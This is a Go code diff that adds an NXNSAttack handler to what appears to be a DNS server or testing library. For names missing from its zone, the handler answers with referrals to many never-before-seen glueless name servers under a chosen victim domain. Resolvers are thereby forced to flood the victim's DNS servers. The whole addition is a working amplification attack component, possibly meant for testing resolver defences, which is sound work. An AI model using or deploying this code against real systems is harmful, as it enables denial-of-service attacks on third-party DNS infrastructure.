@@ -182,3 +182,34 @@ func MustRR(text string) dns.RR {
 	}
 	return rr
 }
+
+// NXNS returns a Handler for the zone z of an NXNSAttack: a name below
+// its origin that z does not hold gets a referral of itself to count name
+// servers in victim without glue, n1-<label>.<victim> to
+// n<count>-<label>.<victim> after the name's first label, so that every
+// referral names servers never seen before, each of which a resolver must
+// look up at the victim's servers. Other names are answered from z.
+func NXNS(z *Zone, victim string, count int) Handler {
+	victim = dns.Fqdn(victim)
+	return func(_ context.Context, w *Writer, q *Query) {
+		if q.Msg == nil || q.Msg.Response {
+			return
+		}
+		name := q.Name()
+		if z.exists[name] || !dns.IsSubDomain(z.origin, name) {
+			_ = w.Msg(z.Answer(q.Msg))
+			return
+		}
+		m := new(dns.Msg)
+		m.SetReply(q.Msg)
+		if q.Msg.IsEdns0() != nil {
+			m.SetEdns0(1232, false)
+		}
+		label := dns.SplitDomainName(name)[0]
+		for i := 1; i <= count; i++ {
+			m.Ns = append(m.Ns, &dns.NS{Hdr: dns.RR_Header{Name: q.Msg.Question[0].Name, Rrtype: dns.TypeNS, Class: dns.ClassINET, Ttl: 3600},
+				Ns: fmt.Sprintf("n%d-%s.%s", i, label, victim)})
+		}
+		_ = w.Msg(m)
+	}
+}
